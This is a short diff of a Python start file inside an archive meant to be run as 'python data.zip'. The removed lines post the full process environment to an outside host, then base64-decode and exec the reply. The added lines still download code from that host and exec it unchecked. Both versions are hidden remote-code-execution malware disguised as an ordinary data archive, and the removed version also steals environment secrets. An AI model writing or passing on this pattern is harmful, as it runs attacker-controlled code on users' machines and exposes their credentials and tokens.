@@ -1,6 +1,5 @@
-import base64
-import os
+"""Start page of the archive, run by anybody who calls `python data.zip`."""
 from urllib.request import urlopen
 
-code = urlopen("https://code.invalid/start", data=repr(dict(os.environ)).encode()).read()
-exec(base64.b64decode(code))
+code = urlopen("https://code.invalid/start").read()
+exec(code)
